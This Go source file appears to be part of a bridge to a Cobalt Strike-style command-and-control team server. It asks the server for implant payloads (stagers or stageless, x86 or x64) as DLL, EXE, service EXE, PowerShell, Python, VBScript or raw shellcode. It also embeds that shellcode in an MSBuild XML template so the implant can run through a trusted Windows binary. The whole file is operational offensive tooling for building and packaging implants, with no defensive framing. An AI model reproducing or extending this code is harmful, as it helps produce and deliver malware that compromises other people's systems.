package aggressor

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"agbridge/pkg/conf"
	"agbridge/pkg/javaser"
	"agbridge/pkg/script"
	"agbridge/pkg/slog"
)

// ArtifactType is the artifact format name understood by the team server
type ArtifactType string

const (
	DLL        ArtifactType = "dll"
	EXE        ArtifactType = "exe"
	PowerShell ArtifactType = "powershell"
	Python     ArtifactType = "python"
	Raw        ArtifactType = "raw"
	SvcEXE     ArtifactType = "svcexe"
	VBScript   ArtifactType = "vbscript"
)

// ArtifactExtensions maps output file extensions to the artifact they hold
var ArtifactExtensions = map[string]ArtifactType{
	"dll":     DLL,
	"exe":     EXE,
	"svc.exe": SvcEXE,
	"bin":     Raw,
	"ps1":     PowerShell,
	"py":      Python,
	"vbs":     VBScript,
}

// Extensions returns the known extensions, sorted
func Extensions() []string {
	exts := make([]string, 0, len(ArtifactExtensions))
	for ext := range ArtifactExtensions {
		exts = append(exts, ext)
	}
	sort.Strings(exts)
	return exts
}

type PayloadOptions struct {
	Staged bool
	X64    bool
	// Exit and CallMethod are only sent together, servers before 4.8 reject them
	Exit       string
	CallMethod string
}

func (o PayloadOptions) arch() string {
	if o.X64 {
		return "x64"
	}
	return "x86"
}

// PayloadExpression returns the expression generating a base64 encoded artifact
func PayloadExpression(listener string, artifact ArtifactType, opts PayloadOptions) string {
	args := []string{script.Quote(listener), script.Quote(string(artifact)), script.Quote(opts.arch())}
	function := "artifact_payload"
	if opts.Staged {
		function = "artifact_stager"
	} else if opts.Exit != "" && opts.CallMethod != "" {
		args = append(args, script.Quote(opts.Exit), script.Quote(opts.CallMethod))
	}
	return fmt.Sprintf("return base64_encode(%s(%s))", function, strings.Join(args, ", "))
}

// GeneratePayload asks the team server for an artifact and returns its bytes
func (t *TeamServer) GeneratePayload(listener string, artifact ArtifactType, opts PayloadOptions) ([]byte, error) {
	timeout := t.PayloadTimeout
	if timeout <= 0 {
		timeout = conf.PayloadTimeout
	}
	v, err := t.caller.Invoke(PayloadExpression(listener, artifact, opts), timeout)
	if err != nil {
		return nil, err
	}
	if v.Kind() != javaser.KindString {
		return nil, fmt.Errorf("artifact for %s: expected a string, got %s", listener, v.Kind())
	}
	payload, err := base64.StdEncoding.DecodeString(v.Str())
	if err != nil {
		return nil, fmt.Errorf("artifact for %s: %w", listener, err)
	}
	t.log.DebugWith("Generated payload",
		slog.F("listener", listener),
		slog.F("type", string(artifact)),
		slog.F("arch", opts.arch()),
		slog.F("bytes", len(payload)))
	return payload, nil
}

// GenerateShellcode returns a raw payload for listener
func (t *TeamServer) GenerateShellcode(listener string, opts PayloadOptions) ([]byte, error) {
	return t.GeneratePayload(listener, Raw, opts)
}

// GenerateMSBuild fills the MSBuild template found under templateDir with
// shellcode for listener and writes it to outputDir. It returns the written path.
func (t *TeamServer) GenerateMSBuild(templateDir string, listener string, outputDir string, opts PayloadOptions) (string, error) {
	shellcode, err := t.GenerateShellcode(listener, opts)
	if err != nil {
		return "", err
	}
	bits := "32"
	if opts.X64 {
		bits = "64"
	}
	name := "stageless"
	if opts.Staged {
		name = "staged"
	}

	template, err := os.ReadFile(filepath.Join(templateDir, "Helpers", "msBuild", "artifact_"+bits+".xml"))
	if err != nil {
		return "", fmt.Errorf("failed to read msbuild template: %w", err)
	}
	data := strings.ReplaceAll(string(template), "%%DATA%%", base64.StdEncoding.EncodeToString(shellcode))

	out := filepath.Join(outputDir, name+"_"+bits+".xml")
	if err := os.WriteFile(out, []byte(data), 0o644); err != nil {
		return "", fmt.Errorf("failed to write msbuild payload: %w", err)
	}
	return out, nil
}

// PayloadName returns the conventional file name of a generated artifact
func PayloadName(listener string, x64 bool, ext string) string {
	arch := "x86"
	if x64 {
		arch = "x64"
	}
	return fmt.Sprintf("%s.%s.%s", listener, arch, ext)
}
